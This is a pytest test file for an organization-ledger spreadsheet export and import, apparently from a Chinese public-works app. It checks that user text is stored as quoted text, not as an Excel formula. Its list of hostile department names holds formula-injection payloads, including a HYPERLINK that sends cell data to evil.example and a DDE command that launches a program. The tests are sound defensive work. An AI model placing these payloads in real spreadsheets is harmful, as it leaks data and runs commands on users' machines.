"""Ledgers are safe to open and to feed: user text never becomes an Excel formula, and a hostile or huge
file is refused with a message, quickly, without holding a web request."""

import io
from typing import Any

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from gongwu.core import testing
from gongwu.core.imports import OrganizationLedger
from gongwu.core.models import Organization, Role
from gongwu.core.spreadsheets import append_text_row

# The CSV-injection prefixes of OWASP, each as the start of a real attack.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture(autouse=True)
def english() -> Any:
    with translation.override("en"):
        yield


@pytest.fixture
def agency(db: Any) -> Organization:
    return testing.AgencyFactory(name="鼓楼区建设工务署")


@pytest.fixture
def staff(agency: Organization) -> Any:
    return testing.UserFactory(organization=agency, role=Role.STAFF)


def cells_by_name(content: bytes) -> dict[str, Any]:
    """The name cells of an exported organization ledger, by their value."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    return {cell.value: cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)}


def test_exported_user_text_is_a_text_cell_not_a_formula(agency: Organization, staff: Any) -> None:
    for name in HOSTILE_NAMES:
        testing.DepartmentFactory(parent=agency, name=name)
    response = testing.english_client(staff).get("/organizations/export/")
    cells = cells_by_name(response.content)
    for name in HOSTILE_NAMES:
        cell = cells[name]  # the value exactly as stored, not a formula's (missing) result
        assert (cell.data_type, cell.quotePrefix) == ("s", True), name
    assert cells["鼓楼区建设工务署"].quotePrefix is False


def test_tab_and_carriage_return_prefixes_are_written_as_text(agency: Organization) -> None:
    for name in ("\t=1+1", "\r=1+1"):
        Organization.objects.filter(pk=testing.DepartmentFactory(parent=agency).pk).update(name=name)
    stream = io.BytesIO()
    OrganizationLedger().write_xlsx(Organization.objects.order_by("pk"), stream)
    cells = [cell for (cell,) in load_workbook(stream).worksheets[0].iter_rows(min_row=2, max_col=1)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[1:]] == [
        ("\t=1+1", "s", True),
        ("\r=1+1", "s", True),
    ]


def test_exported_hostile_names_import_back_unchanged(agency: Organization, staff: Any) -> None:
    for name in HOSTILE_NAMES:
        testing.DepartmentFactory(parent=agency, name=name)
    content = testing.english_client(staff).get("/organizations/export/").content
    ledger = OrganizationLedger()
    rows = ledger.read(content, "organizations.xlsx")
    assert sorted(values["name"] for _number, values in rows) == sorted([*HOSTILE_NAMES, "鼓楼区建设工务署"])
    result = ledger.preview(rows, staff)
    assert result.summary == {"create": 0, "update": 0, "unchanged": len(HOSTILE_NAMES) + 1, "error": 0}


def test_a_report_keeps_numbers_as_numbers_and_text_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    append_text_row(sheet, [-12.5, "-12.5", "=SUM(A1:A2)", 3])
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet[1]] == [
        (-12.5, "n", False),
        ("-12.5", "s", True),
        ("=SUM(A1:A2)", "s", True),
        (3, "n", False),
    ]
